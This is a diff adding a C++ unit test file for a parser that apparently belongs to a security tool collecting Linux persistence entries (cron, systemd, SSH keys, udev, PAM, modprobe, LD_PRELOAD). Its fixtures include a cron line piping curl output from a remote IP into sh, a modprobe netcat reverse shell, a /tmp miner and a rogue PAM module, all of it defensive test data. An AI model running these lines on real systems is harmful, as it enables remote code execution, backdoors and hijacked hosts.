@@ -1,0 +1,79 @@
+#include "collect/persistence_parse.hpp"
+
+#include <gtest/gtest.h>
+
+using namespace vigil::collect;
+
+TEST(Crontab, SystemAndUserFormats) {
+  auto sys = parse_crontab(
+      "SHELL=/bin/sh\nPATH=/usr/bin:/bin\n# m h dom mon dow user command\n"
+      "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
+      "@reboot root /tmp/.x/start\n"
+      "*/5 * * * * www-data curl -s http://198.51.100.9/x | sh\n"
+      "broken line\n",
+      true);
+  ASSERT_EQ(sys.rows.size(), 3u);
+  EXPECT_EQ(sys.rows[0].user, "root");
+  EXPECT_EQ(sys.rows[0].schedule, "17 * * * *");
+  EXPECT_EQ(sys.rows[0].command, "cd / && run-parts --report /etc/cron.hourly");
+  EXPECT_EQ(sys.rows[1].schedule, "@reboot");
+  EXPECT_EQ(sys.rows[2].line, 6u);
+  ASSERT_EQ(sys.errors.size(), 1u);
+  EXPECT_EQ(sys.errors[0].line, 7u);
+  auto user = parse_crontab("MAILTO=\"\"\n0 3 * * * /home/a/backup.sh --full\n", false);
+  ASSERT_EQ(user.rows.size(), 1u);
+  EXPECT_EQ(user.rows[0].command, "/home/a/backup.sh --full");
+}
+
+TEST(SystemdUnit, ExecLinesEnvironmentAndTimerUnit) {
+  auto cmds = parse_systemd_unit(
+      "[Unit]\nDescription=x\nExecStart=/not/in/service\n[Service]\nType=simple\n"
+      "Environment=LD_PRELOAD=/lib/libx.so\nExecStartPre=-/usr/bin/true\nExecStart=@/tmp/.x/miner miner --pool p\n"
+      "; comment\n[Timer]\nUnit=backup.service\n");
+  ASSERT_EQ(cmds.size(), 4u);
+  EXPECT_EQ(cmds[0].key, "Environment");
+  EXPECT_EQ(cmds[1].command, "/usr/bin/true");
+  EXPECT_EQ(cmds[2].command, "/tmp/.x/miner miner --pool p");
+  EXPECT_EQ(cmds[2].line, 8u);
+  EXPECT_EQ(cmds[3].key, "Unit");
+}
+
+TEST(AuthorizedKeys, OptionsAndForcedCommand) {
+  auto k = parse_authorized_keys(
+      "ssh-ed25519 AAAAC3Nza alice@laptop\n"
+      "command=\"/usr/bin/rsync --server, \\\"quoted\\\"\",no-pty,from=\"10.0.0.0/8\" ssh-rsa AAAAB3 backup key\n"
+      "# comment\n"
+      "garbage\n");
+  ASSERT_EQ(k.rows.size(), 2u);
+  EXPECT_EQ(k.rows[0].comment, "alice@laptop");
+  EXPECT_TRUE(k.rows[0].options.empty());
+  EXPECT_EQ(k.rows[1].forced_command, "/usr/bin/rsync --server, \"quoted\"");
+  EXPECT_EQ(k.rows[1].type, "ssh-rsa");
+  EXPECT_EQ(k.rows[1].comment, "backup key");
+  ASSERT_EQ(k.errors.size(), 1u);
+  EXPECT_EQ(k.errors[0].line, 4u);
+}
+
+TEST(OtherFormats, UdevPamModprobeEnvironmentDesktop) {
+  auto udev = parse_udev_runs("ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/tmp/x.sh\", RUN{program}+=\"/bin/y\"\n# RUN+=\"no\"\n");
+  ASSERT_EQ(udev.size(), 2u);
+  EXPECT_EQ(udev[0].command, "/tmp/x.sh");
+  EXPECT_EQ(udev[1].command, "/bin/y");
+  auto pam = parse_pam_modules(
+      "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite /lib/security/pam_evil.so\n"
+      "@include common-auth\nsession include su\naccount required pam_permit.so\n");
+  ASSERT_EQ(pam.size(), 3u);
+  EXPECT_EQ(pam[0].command, "pam_unix.so");
+  EXPECT_EQ(pam[1].command, "/lib/security/pam_evil.so");
+  EXPECT_EQ(pam[2].command, "pam_permit.so");
+  auto mp = parse_modprobe_installs("blacklist x\ninstall usb-storage /bin/sh -c 'nc -e /bin/sh 1.2.3.4 1'\n");
+  ASSERT_EQ(mp.size(), 1u);
+  EXPECT_EQ(mp[0].command, "/bin/sh -c 'nc -e /bin/sh 1.2.3.4 1'");
+  auto env = parse_env_assignments("PATH=/usr/bin\nexport LD_PRELOAD=\"/usr/lib/libz.so\"\n", "LD_PRELOAD");
+  ASSERT_EQ(env.size(), 1u);
+  EXPECT_EQ(env[0].command, "/usr/lib/libz.so");
+  auto desk = parse_desktop_exec("[Desktop Entry]\nName=x\nExec=/home/a/.x/run --quiet\n");
+  ASSERT_EQ(desk.size(), 1u);
+  EXPECT_EQ(desk[0].line, 3u);
+  EXPECT_EQ(parse_module_list("# c\nloop\n  br_netfilter  \n").size(), 2u);
+}
